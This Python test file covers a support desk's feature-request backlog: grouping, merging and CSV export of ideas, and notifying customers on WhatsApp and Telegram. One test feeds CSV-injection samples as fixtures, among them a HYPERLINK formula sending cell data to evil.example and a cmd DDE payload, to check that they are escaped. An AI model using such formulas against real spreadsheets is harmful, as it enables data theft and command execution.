"""The feature-request backlog: agents mark ideas in threads, supervisors see them counted and deliver them."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta

from core.backlog import texts as backlog_texts
from core.common.ptbr_text import normalize
from core.tickets import texts as tickets_texts
from testing.slack_payloads import slack_message_event
from testing.telegram_bot_api import FakeTelegramAPI
from testing.telegram_updates import tg_text
from testing.whatsapp_webhooks import wa_text_message
from tests.broadcast_helpers import wait_finished
from tests.conftest import CHANNEL, Desk, StartDesk, post_telegram, telegram_settings
from tests.test_templates import block, choose, open_modal

MARIA = "5511987651234"
JOAO = "5521998761234"
BIA = "5531997651234"
ANA_TG = 412345678
DAY = 24 * 3600


def test_same_idea_in_other_words_normalises_the_same() -> None:
    same = [
        "Exportar relatórios em PDF",
        "exportar relatorio pdf",
        "Gostaria de poder exportar o relatório em PDF",
        "PDF: exportar relatórios",
    ]
    assert len({normalize(text) for text in same}) == 1
    assert normalize("integração com Mercado Pago") == normalize("Integracao com o mercado pago")
    assert normalize("exportar relatório em PDF") != normalize("exportar relatório em Excel")
    assert normalize("de para com") == ""


async def customer_writes(desk: Desk, phone: str, name: str, text: str, *, ago: int = 0) -> dict:
    """A customer message (sent ``ago`` seconds before now); returns their ticket's parent message."""
    await desk.whatsapp(wa_text_message(phone, name, text, timestamp=int(time.time()) - ago))
    await desk.settle()
    return next(p for p in desk.parents() if name in str(p["blocks"]))


async def agent_notes(desk: Desk, parent: dict, text: str, user: str = "UANA") -> None:
    ts = desk.slack.post_as_user(CHANNEL, user, text, thread_ts=parent["ts"])["ts"]
    response = await desk.slack_event(slack_message_event(CHANNEL, user, text, ts=ts, thread_ts=parent["ts"]))
    assert response.status == 200
    await desk.settle()


async def test_agents_mark_ideas_and_the_same_idea_is_grouped_and_counted(start_desk: StartDesk) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    maria = await customer_writes(desk, MARIA, "Maria Souza", "Dá pra exportar os relatórios em PDF?")
    await desk.rows("UPDATE customers SET plan = 'Pro' WHERE address = ?", MARIA)
    joao = await customer_writes(desk, JOAO, "João Lima", "queria tirar relatorio em pdf")
    bia = await customer_writes(desk, BIA, "Bia Reis", "Vocês integram com Mercado Pago?")

    await agent_notes(desk, maria, "//ideia Exportar relatórios em PDF")
    assert desk.thread_of(maria)[-1]["text"] == backlog_texts.idea_recorded(
        1, "Exportar relatórios em PDF", 1
    )
    await agent_notes(desk, joao, "//ideia exportar relatorio pdf")
    assert desk.thread_of(joao)[-1]["text"] == backlog_texts.idea_recorded(1, "Exportar relatórios em PDF", 2)
    await agent_notes(desk, maria, "//IDEIA exportar o relatório em PDF")  # Maria again: still 2 customers
    assert desk.thread_of(maria)[-1]["text"].endswith("(2 clientes pediram).")
    await agent_notes(desk, bia, "//ideia integração com Mercado Pago")
    await agent_notes(desk, bia, "//ideias não é um pedido")  # another note, not an idea
    assert desk.graph.sent_texts() == []  # notes never reach customers

    listing = (await desk.command("ideias", user="UBOSS"))["text"]
    lines = listing.splitlines()
    assert lines[0] == backlog_texts.ideas_header(None, 2)
    assert lines[1] == "1. *Exportar relatórios em PDF* — 2 clientes (Pro 1 · sem plano 1) · #1"
    assert lines[2] == "2. *integração com Mercado Pago* — 1 cliente (sem plano 1) · #2"

    pro = (await desk.command("ideias --plano pro", user="UBOSS"))["text"]
    assert "Exportar relatórios em PDF* — 1 cliente (Pro 1)" in pro and "Mercado Pago" not in pro


async def test_the_csv_export_is_a_file_in_the_supervisors_private_messages(start_desk: StartDesk) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    maria = await customer_writes(desk, MARIA, "Maria Souza", "Dá pra exportar os relatórios em PDF?")
    await desk.rows("UPDATE customers SET plan = 'Pro' WHERE address = ?", MARIA)
    joao = await customer_writes(desk, JOAO, "João Lima", "queria tirar relatorio em pdf")
    bia = await customer_writes(desk, BIA, "Bia Reis", "Vocês integram com Mercado Pago?")
    for parent, idea in (
        (maria, "exportar relatórios em PDF"),
        (joao, "exportar relatorio pdf"),
        (bia, "Mercado Pago"),
    ):
        await agent_notes(desk, parent, f"//ideia {idea}")
    posted_before = set(desk.slack.messages)

    answer = await desk.command("ideias --csv", user="UBOSS")
    assert answer["text"] == backlog_texts.ideas_exported(2)
    assert "```" not in answer["text"] and "Mercado" not in answer["text"]  # the data is in the file
    [export] = desk.slack.files.values()
    assert export["channel"] == "DBOSS"  # the app's private conversation with the supervisor
    today = datetime.now(UTC).date().isoformat()
    assert export["name"] == f"sugestoes-{today}.csv"
    rows = list(csv.reader(io.StringIO(export["data"].decode("utf-8"))))
    assert rows[0] == [
        "id",
        "ideia",
        "clientes",
        "por_plano",
        "primeiro_pedido",
        "ultimo_pedido",
        "entregue_em",
    ]
    assert rows[1] == ["1", "exportar relatórios em PDF", "2", "Pro 1 · sem plano 1", today, today, ""]
    assert rows[2][:4] == ["2", "Mercado Pago", "1", "sem plano 1"]
    assert len(rows) == 3
    # nothing about the backlog was posted in a channel
    assert [ch for ch, _ in set(desk.slack.messages) - posted_before if not ch.startswith("D")] == []

    pro = await desk.command("ideias --plano Pro --csv", user="UBOSS")
    assert pro["text"] == backlog_texts.ideas_exported(1)
    only_pro = list(desk.slack.files.values())[-1]
    assert (
        only_pro["name"] == f"sugestoes-pro-{today}.csv" and "Mercado Pago" not in only_pro["data"].decode()
    )

    assert (await desk.command("ideias --plano Basico --csv", user="UBOSS"))[
        "text"
    ] == backlog_texts.IDEAS_EMPTY
    assert (await desk.command("ideias --csv", user="UANA"))["text"] == tickets_texts.SUPERVISORS_ONLY
    assert len(desk.slack.files) == 2


async def test_the_csv_export_shows_formula_like_text_as_text_not_as_a_formula(start_desk: StartDesk) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    hostile = {
        MARIA: '=HYPERLINK("https://evil.example/?d="&A1;"Clique")',
        JOAO: "+55 11 4002-8922 ligue já",
        BIA: "-2+3+cmd|' /C calc'!A0",
    }
    parents = {phone: await customer_writes(desk, phone, phone, "oi") for phone in hostile}
    await desk.rows("UPDATE customers SET plan = '@SUM(1+1)' WHERE address = ?", MARIA)  # platform data
    for phone, words in hostile.items():
        await agent_notes(desk, parents[phone], f"//ideia {words}")

    await desk.command("ideias --csv", user="UBOSS")
    [export] = desk.slack.files.values()
    rows = list(csv.reader(io.StringIO(export["data"].decode("utf-8"))))
    ideas = {row[1]: row[3] for row in rows[1:]}
    assert set(ideas) == {"'" + words for words in hostile.values()}  # shown as typed, never run
    assert ideas["'" + hostile[MARIA]] == "'@SUM(1+1) 1"


async def test_a_csv_export_slack_refuses_is_told_and_can_be_asked_again(start_desk: StartDesk) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    maria = await customer_writes(desk, MARIA, "Maria", "oi")
    await agent_notes(desk, maria, "//ideia exportar relatório em PDF")
    desk.slack.fail("files.completeUploadExternal", status=200, error="invalid_channel")

    assert (await desk.command("ideias --csv", user="UBOSS"))["text"] == tickets_texts.COMMAND_FAILED
    assert desk.slack.files == {}
    assert (await desk.command("ideias --csv", user="UBOSS"))["text"] == backlog_texts.ideas_exported(1)
    [export] = desk.slack.files.values()
    assert "exportar relatório em PDF" in export["data"].decode()


async def test_an_agents_merge_groups_differently_worded_ideas_for_good(start_desk: StartDesk) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    maria = await customer_writes(desk, MARIA, "Maria", "oi")
    joao = await customer_writes(desk, JOAO, "João", "oi")
    bia = await customer_writes(desk, BIA, "Bia", "oi")
    await agent_notes(desk, maria, "//ideia integração com Mercado Pago")
    await agent_notes(desk, joao, "//ideia receber pagamentos pelo MercadoPago")
    await agent_notes(desk, maria, "//ideia receber pagamentos pelo MercadoPago")

    answer = await desk.command("ideias juntar 1 #2", user="UBOSS")
    assert answer["text"] == backlog_texts.ideas_merged(1, 2, 2)  # Maria asked for both: counted once
    # a later request in the merged idea's words joins the survivor
    await agent_notes(desk, bia, "//ideia Receber pagamentos pelo mercadopago")
    assert desk.thread_of(bia)[-1]["text"] == backlog_texts.idea_recorded(1, "integração com Mercado Pago", 3)
    listing = (await desk.command("ideias", user="UBOSS"))["text"]
    assert backlog_texts.ideas_header(None, 1) in listing and "3 clientes" in listing

    assert (await desk.command("ideias juntar 1 2", user="UBOSS"))["text"] == backlog_texts.idea_not_found(
        "1 / 2"
    )
    assert (await desk.command("ideias juntar 1 1", user="UBOSS"))["text"] == backlog_texts.IDEA_MERGE_SAME
    assert await desk.rows("SELECT actor, detail FROM events WHERE action = 'idea.merged'") == [
        ("UBOSS", "2 -> 1")
    ]


async def test_a_delivered_idea_tells_exactly_the_customers_who_asked(start_desk: StartDesk) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    maria = await customer_writes(desk, MARIA, "Maria Souza", "Queria exportar em PDF")
    joao = await customer_writes(desk, JOAO, "João Lima", "exportar pdf seria ótimo", ago=2 * DAY)
    bia = await customer_writes(desk, BIA, "Bia Reis", "Mercado Pago?")
    await agent_notes(desk, maria, "//ideia exportar relatório em PDF")
    await agent_notes(desk, joao, "//ideia exportar relatório em PDF")
    await agent_notes(desk, bia, "//ideia integração com Mercado Pago")

    answer = await desk.command("ideias entregue 1", user="UBOSS")
    # João last wrote two days ago: outside WhatsApp's 24-hour window, no free text to him
    assert answer["text"] == backlog_texts.idea_delivered_report(1, 1, 1)
    await desk.settle()
    assert desk.graph.sent_texts(MARIA) == [backlog_texts.idea_delivered_to_customer("Maria")]
    assert desk.graph.sent_texts(JOAO) == [] and desk.graph.sent_texts(BIA) == []
    assert desk.thread_of(maria)[-1]["text"] == backlog_texts.idea_delivered_note(1)
    assert "✅ entregue" in (await desk.command("ideias", user="UBOSS"))["text"]

    # nobody is told twice; João is told once he writes again, with the supervisor's own words
    assert (await desk.command("ideias entregue 1", user="UBOSS"))[
        "text"
    ] == backlog_texts.idea_delivered_report(1, 0, 1)
    await customer_writes(desk, JOAO, "João Lima", "oi de novo")
    answer = await desk.command("ideias entregue 1   Já dá para exportar em PDF!  ", user="UBOSS")
    assert answer["text"] == backlog_texts.idea_delivered_report(1, 1, 0)
    await desk.settle()
    assert desk.graph.sent_texts(JOAO) == ["Já dá para exportar em PDF!"]
    assert desk.graph.sent_texts(MARIA) == [backlog_texts.idea_delivered_to_customer("Maria")]
    assert desk.graph.sent_texts(BIA) == []


async def test_the_feature_template_names_what_this_customer_asked_never_the_merged_ideas_wording(
    start_desk: StartDesk,
) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    maria = await customer_writes(desk, MARIA, "Maria Souza", "Mercado Pago? meu CPF é 123.456.789-09")
    joao = await customer_writes(desk, JOAO, "João Lima", "Dá para receber pelo MercadoPago?")
    await agent_notes(desk, maria, "//ideia Mercado Pago, CPF 123.456.789-09")  # pasted as she wrote it
    await agent_notes(desk, joao, "//ideia receber pelo MercadoPago")
    await desk.command("ideias juntar 1 2", user="UBOSS")

    modal = await open_modal(desk, joao, ticket_id=2)
    filled = await choose(desk, modal, "feature_001")
    text = block(filled, "text:feature_001")["element"]["initial_value"]
    assert '"receber pelo MercadoPago"' in text
    assert "123.456.789-09" not in text


async def test_bad_backlog_input_gets_a_clear_answer(start_desk: StartDesk) -> None:
    desk = await start_desk(slack_supervisors="UBOSS")
    maria = await customer_writes(desk, MARIA, "Maria", "oi")
    await agent_notes(desk, maria, "//ideia   ")
    assert desk.thread_of(maria)[-1]["text"] == backlog_texts.IDEA_NO_SUMMARY
    assert (await desk.command("ideias", user="UBOSS"))["text"] == backlog_texts.IDEAS_EMPTY

    for typed in (
        "ideias --plano",
        "ideias --xls",
        "ideias juntar 1",
        "ideias juntar a b",
        "ideias entregue",
    ):
        assert (await desk.command(typed, user="UBOSS"))["text"] == backlog_texts.IDEAS_USAGE, typed
    assert (await desk.command("ideias entregue 42", user="UBOSS"))["text"] == backlog_texts.idea_not_found(
        "42"
    )
    assert (await desk.command("ideias entregue x", user="UBOSS"))["text"] == backlog_texts.idea_not_found(
        "x"
    )
    assert (await desk.command("ideias", user="UANA"))["text"] == tickets_texts.SUPERVISORS_ONLY


async def test_telegram_has_no_24_hour_window_for_the_delivered_notice(
    start_desk: StartDesk, telegram: FakeTelegramAPI
) -> None:
    desk = await start_desk(slack_supervisors="UBOSS", **telegram_settings(telegram))
    await telegram.wait_for(lambda fake: fake.webhook)
    await post_telegram(desk, tg_text(ANA_TG, "Ana Souza", "Dá para exportar em PDF?"))
    await desk.settle()
    await desk.rows("UPDATE messages SET sent_at = ?", (datetime.now(UTC) - timedelta(days=3)).isoformat())
    [parent] = desk.parents()
    await agent_notes(desk, parent, "//ideia exportar relatório em PDF")

    assert (await desk.command("ideias entregue 1", user="UBOSS"))[
        "text"
    ] == backlog_texts.idea_delivered_report(1, 1, 0)
    await desk.settle()
    assert telegram.sent_texts(ANA_TG) == [backlog_texts.idea_delivered_to_customer("Ana")]


async def test_outside_the_window_the_approved_template_tells_them_and_opted_out_customers_are_left_alone(
    start_desk: StartDesk,
) -> None:
    desk = await start_desk(slack_supervisors="UBOSS", idea_template="ideia_entregue")
    desk.graph.enforce_windows()
    desk.graph.customer_wrote(MARIA)  # WhatsApp's own view of the windows: Maria wrote just now
    maria = await customer_writes(desk, MARIA, "Maria Souza", "Queria exportar em PDF")
    joao = await customer_writes(desk, JOAO, "João Lima", "exportar pdf seria ótimo", ago=2 * DAY)
    bia = await customer_writes(desk, BIA, "Bia Reis", "Dá para exportar em PDF?")
    for parent in (maria, joao, bia):
        await agent_notes(desk, parent, "//ideia exportar relatório em PDF")
    await customer_writes(desk, BIA, "Bia Reis", "PARAR")

    answer = await desk.command("ideias entregue 1", user="UBOSS")
    assert answer["text"] == backlog_texts.idea_delivered_report(
        1, notified=1, outside_window=0, by_template=1, opted_out=1
    )
    [(broadcast_id,)] = await desk.rows("SELECT id FROM broadcasts WHERE kind = 'idea'")
    await wait_finished(desk, broadcast_id)
    [template] = desk.graph.sent_templates(JOAO)
    assert template["template"]["name"] == "ideia_entregue"
    assert "exportar relatório em PDF" not in str(template["template"]["components"])  # the desk's words only
    assert "Oi, João!" in str(template["template"]["components"])  # named, though sent as a broadcast
    assert desk.graph.sent_texts(MARIA) == [backlog_texts.idea_delivered_to_customer("Maria")]
    assert not [m for m in desk.graph.sent_to(BIA) if "exportar relatório" in str(m)]

    # nobody is told twice
    again = await desk.command("ideias entregue 1", user="UBOSS")
    assert again["text"] == backlog_texts.idea_delivered_report(1, 0, 0, 0, opted_out=1)
    assert len(desk.graph.sent_templates(JOAO)) == 1
